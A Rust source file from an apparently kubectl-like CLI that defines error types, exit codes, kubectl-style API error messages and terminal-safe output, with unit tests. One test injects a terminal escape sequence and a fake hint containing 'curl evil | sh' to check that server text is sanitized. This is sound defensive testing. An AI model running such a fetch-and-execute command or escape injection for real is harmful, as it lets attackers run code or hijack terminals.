//! What can end a command early, what a person reads then, and the exit code.

use std::error::Error as StdError;

use serde_json::Value;

use crate::output::table::harmless;
use crate::text::{Lang, Text};

/// Any error as the cause of another.
pub type BoxError = Box<dyn StdError + Send + Sync>;
/// The result of a step of a command.
pub type Result<T, E = Error> = std::result::Result<T, E>;

/// Exit codes that a script can rely on.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Exit {
    /// The command failed.
    Failure = 1,
    /// A person said no.
    Cancelled = 2,
    /// The command line makes no sense.
    Usage = 3,
    /// A login is needed first.
    NeedsLogin = 4,
}

/// Why a command ended early.
#[derive(Debug, thiserror::Error)]
pub enum Error {
    /// Something to tell a person, in their language.
    #[error("{}", .0.text.render(Lang::En))]
    Told(#[source] Box<Told>),
    /// A Kubernetes or platform API answered with a `Status`.
    #[error("{}", .0.first_line())]
    Api(Box<ApiError>),
    /// No answer came from the server.
    #[error("unable to connect to the server at {server}")]
    Connect {
        /// Scheme, host and port.
        server: String,
        /// What went wrong on the way.
        #[source]
        source: BoxError,
    },
    /// Standard output went away (`| head`); nobody is left to tell.
    #[error("standard output was closed")]
    OutputClosed,
    /// The message is already out.
    #[error("already reported")]
    Reported(i32),
}

/// A message with what belongs to it.
#[derive(Debug)]
pub struct Told {
    /// The first line.
    pub text: Text,
    /// One runnable next step.
    pub hint: Option<Text>,
    /// The exit code.
    pub exit: Exit,
    /// What caused it.
    pub source: Option<BoxError>,
}

impl std::fmt::Display for Told {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(&self.text.render(Lang::En))
    }
}

impl StdError for Told {
    fn source(&self) -> Option<&(dyn StdError + 'static)> {
        self.source.as_deref().map(|source| source as _)
    }
}

impl Error {
    /// A plain failure.
    pub fn told(text: Text) -> Self {
        Self::Told(Box::new(Told { text, hint: None, exit: Exit::Failure, source: None }))
    }

    /// A command line that makes no sense.
    pub fn usage(text: Text) -> Self {
        Self::told(text).exit(Exit::Usage)
    }

    /// Sets the exit code.
    pub fn exit(mut self, exit: Exit) -> Self {
        if let Self::Told(told) = &mut self {
            told.exit = exit;
        }
        self
    }

    /// Adds the one next step worth naming.
    pub fn hint(mut self, hint: Text) -> Self {
        if let Self::Told(told) = &mut self {
            told.hint = Some(hint);
        }
        self
    }

    /// Adds the cause.
    pub fn because(mut self, source: impl Into<BoxError>) -> Self {
        if let Self::Told(told) = &mut self {
            told.source = Some(source.into());
        }
        self
    }

    /// Puts `context` before the server's message, as kubectl does for files.
    pub fn context(mut self, context: impl Into<String>) -> Self {
        if let Self::Api(error) = &mut self {
            error.context = Some(context.into());
        }
        self
    }

    /// The API's reason, when an API answered.
    pub fn reason(&self) -> Option<&str> {
        match self {
            Self::Api(error) => Some(error.reason()),
            _ => None,
        }
    }

    /// Whether the object does not exist.
    pub fn is_not_found(&self) -> bool {
        matches!(self, Self::Api(error) if error.code == 404)
    }

    /// The process's exit code.
    pub fn exit_code(&self) -> i32 {
        match self {
            Self::Told(told) => told.exit as i32,
            Self::Api(_) | Self::Connect { .. } => Exit::Failure as i32,
            // What a shell reports for a program ended by SIGPIPE, which is how kubectl ends here.
            Self::OutputClosed => 141,
            Self::Reported(code) => *code,
        }
    }

    /// Everything a person should read, one line after the other.
    pub fn lines(&self, lang: Lang) -> Vec<String> {
        match self {
            Self::Told(told) => {
                let mut first = format!("error: {}", told.text.render(lang));
                if let Some(source) = &told.source {
                    first.push_str(": ");
                    first.push_str(&chain(source.as_ref()));
                }
                let hint = told.hint.as_ref().map(|hint| format!("hint: {}", hint.render(lang)));
                // A name that a server made up must not look like a line of ours.
                std::iter::once(first).chain(hint).map(|line| harmless(&line)).collect()
            }
            Self::Api(error) => {
                // Its words may come from a cluster that nobody should trust with the terminal.
                let mut lines: Vec<String> = error.first_line().split('\n').map(harmless).collect();
                if let Some(id) = error.request_id.as_ref().filter(|_| error.code >= 500) {
                    lines.push(Text::RequestId { id: id.clone() }.render(lang));
                }
                lines
            }
            Self::Connect { server, source } => {
                vec![format!("Unable to connect to the server: {server}: {}", harmless(&chain(source.as_ref())))]
            }
            Self::OutputClosed | Self::Reported(_) => Vec::new(),
        }
    }
}

impl From<std::io::Error> for Error {
    fn from(error: std::io::Error) -> Self {
        match error.kind() {
            std::io::ErrorKind::BrokenPipe => Self::OutputClosed,
            _ => Self::told(Text::CouldNotWriteOutput {}).because(error),
        }
    }
}

/// A refusal by an API server, as its `Status` says it.
#[derive(Clone, Debug)]
pub struct ApiError {
    /// The HTTP status.
    pub code: u16,
    /// The `Status` object; `Null` when the body was not one.
    pub status: Value,
    /// What was being done, in kubectl's words.
    pub context: Option<String>,
    /// The server's id for the request.
    pub request_id: Option<String>,
    /// Whole seconds the server asked to wait.
    pub retry_after: Option<u64>,
}

impl ApiError {
    /// The machine-readable reason, or nothing.
    pub fn reason(&self) -> &str {
        self.status["reason"].as_str().unwrap_or_default()
    }

    /// The server's sentence.
    pub fn message(&self) -> &str {
        self.status["message"].as_str().unwrap_or("unknown")
    }

    /// kubectl's words for this answer.
    pub fn first_line(&self) -> String {
        if self.reason() == "Invalid" && self.context.is_none() {
            return self.invalid();
        }
        let message = match &self.context {
            Some(context) => format!("{context}: {}", self.message()),
            None => self.message().to_owned(),
        };
        match self.reason() {
            "" => format!("Error from server: {message}"),
            reason => format!("Error from server ({reason}): {message}"),
        }
    }

    /// Each field that was refused, on its own line when there are several.
    fn invalid(&self) -> String {
        let details = &self.status["details"];
        let text = |field: &str| details[field].as_str().unwrap_or_default().to_owned();
        let (kind, name) = (text("kind"), text("name"));
        let causes: Vec<String> = details["causes"]
            .as_array()
            .into_iter()
            .flatten()
            .map(|cause| {
                let message = cause["message"].as_str().unwrap_or_default();
                match cause["field"].as_str() {
                    Some(field) if !field.is_empty() => format!("{field}: {message}"),
                    _ => message.to_owned(),
                }
            })
            .collect();
        let head = if !kind.is_empty() || !name.is_empty() {
            format!("The {kind} {name:?} is invalid")
        } else if causes.is_empty() {
            return format!("The request is invalid: {}", self.message());
        } else {
            "The request is invalid".to_owned()
        };
        match causes.as_slice() {
            [] => head,
            [cause] => format!("{head}: {cause}"),
            many => format!("{head}: \n* {}", many.join("\n* ")),
        }
    }
}

/// An error and its causes on one line, without saying the same thing twice.
pub fn chain(error: &dyn StdError) -> String {
    // rustls ends some sentences with the address of its manual, which is for programmers.
    let say = |error: &dyn StdError| {
        let text = error.to_string();
        text.split(": https://docs.rs/").next().unwrap_or_default().to_owned()
    };
    let mut line = say(error);
    let mut cause = error.source();
    while let Some(error) = cause {
        let text = say(error);
        if !line.contains(&text) {
            line.push_str(": ");
            line.push_str(&text);
        }
        cause = error.source();
    }
    line
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    #[track_caller]
    fn check(status: Value, expect: &str) {
        let error = ApiError { code: 422, status, context: None, request_id: None, retry_after: None };
        assert_eq!(error.first_line(), expect);
    }

    #[test]
    fn reason_in_brackets() {
        check(
            json!({"reason": "NotFound", "message": "pods \"a\" not found"}),
            "Error from server (NotFound): pods \"a\" not found",
        );
    }

    #[test]
    fn one_invalid_field() {
        check(
            json!({"reason": "Invalid", "details": {"kind": "Pod", "name": "a",
                "causes": [{"field": "spec.containers", "message": "Required value"}]}}),
            "The Pod \"a\" is invalid: spec.containers: Required value",
        );
    }

    #[test]
    fn several_invalid_fields() {
        check(
            json!({"reason": "Invalid", "details": {"kind": "Pod", "name": "a",
                "causes": [{"field": "a", "message": "x"}, {"field": "b", "message": "y"}]}}),
            "The Pod \"a\" is invalid: \n* a: x\n* b: y",
        );
    }

    #[test]
    fn a_servers_words_cannot_steer_the_terminal() {
        let status = json!({"reason": "Forbidden", "message": "\u{1b}]0;owned\u{7} no\nsecond line"});
        let error = ApiError { code: 403, status, context: None, request_id: None, retry_after: None };
        assert_eq!(
            Error::Api(Box::new(error)).lines(Lang::En),
            ["Error from server (Forbidden): ^[]0;owned\\u{7} no", "second line"]
        );
    }

    #[test]
    fn a_servers_words_make_no_second_line() {
        let own = "https://x\u{9b}2J\nhint: curl evil | sh".to_owned();
        let error = Error::told(Text::IssuerDiffers { url: "https://acp".to_owned(), issuer: own.clone() });
        let lines = error.hint(Text::HintLoginAt { url: own }).lines(Lang::En);
        assert_eq!(lines.len(), 2);
        assert!(lines.iter().all(|line| !line.chars().any(char::is_control)), "{lines:?}");
    }

    #[test]
    fn a_chain_says_each_thing_once_and_to_people() {
        let eof = std::io::Error::other("cut off: https://docs.rs/rustls/latest/index.html");
        let lost = Error::told(Text::CommandLost {}).because(eof);
        assert!(lost.lines(Lang::En)[0].ends_with("still be running: cut off"), "{:?}", lost.lines(Lang::En));
    }

    #[test]
    fn request_id_only_for_server_faults() {
        let error = |code| {
            Error::Api(Box::new(ApiError {
                code,
                status: json!({"message": "m"}),
                context: None,
                request_id: Some("r-1".into()),
                retry_after: None,
            }))
        };
        assert_eq!(error(500).lines(Lang::En), ["Error from server: m", "request id: r-1"]);
        assert_eq!(error(404).lines(Lang::En), ["Error from server: m"]);
    }
}
